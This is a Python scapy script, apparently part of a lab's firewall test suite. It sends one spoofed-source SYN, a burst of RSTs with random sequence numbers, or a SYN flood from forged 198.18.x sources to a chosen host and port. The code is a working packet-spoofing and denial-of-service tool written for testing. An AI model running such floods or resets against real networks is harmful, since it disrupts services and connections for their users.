#!/usr/bin/python3
"""Crafted packets for the lab's attack tests, sent with scapy from inside a namespace.

  attack.py spoof-syn SRC SPORT DST DPORT        one SYN with a forged source
  attack.py rst SRC SPORT DST DPORT COUNT        COUNT RSTs with random sequence numbers
  attack.py flood DST DPORT COUNT SECONDS        SYNs from forged 198.18.1.100-249 sources

Frames go out of IFACE (default c0) to the next hop ROUTER (default 198.18.1.1, the firewall's
ext0) at layer 2: a forged packet addressed to this host itself would otherwise never leave it.
Run with Debian's /usr/bin/python3 (python3-scapy); needs CAP_NET_RAW.
"""
import os
import random
import sys
import time

from scapy.all import IP, TCP, Ether, conf, getmacbyip, sendp

conf.verb = 0
IFACE = os.environ.get("IFACE", "c0")
ROUTER = os.environ.get("ROUTER", "198.18.1.1")


def send(packets, inter=0):
    router = Ether(dst=getmacbyip(ROUTER))
    sendp([router / p for p in (packets if isinstance(packets, list) else [packets])], iface=IFACE, inter=inter)


def spoof_syn(src, sport, dst, dport):
    send(IP(src=src, dst=dst) / TCP(sport=int(sport), dport=int(dport), flags="S", seq=random.getrandbits(32)))


def rst(src, sport, dst, dport, count):
    packets = [IP(src=src, dst=dst) / TCP(sport=int(sport), dport=int(dport), flags="R",
                                          seq=random.getrandbits(32)) for _ in range(int(count))]
    send(packets, inter=0.001)


def flood(dst, dport, count, seconds):
    count, seconds = int(count), float(seconds)
    packets = [IP(src="198.18.1.%d" % (100 + i % 150), dst=dst) /
               TCP(sport=20000 + i % 40000, dport=int(dport), flags="S", seq=random.getrandbits(32))
               for i in range(count)]
    start = time.monotonic()
    send(packets, inter=seconds / count)
    print("sent %d SYNs in %.1f s" % (count, time.monotonic() - start))


if __name__ == "__main__":
    {"spoof-syn": spoof_syn, "rst": rst, "flood": flood}[sys.argv[1]](*sys.argv[2:])
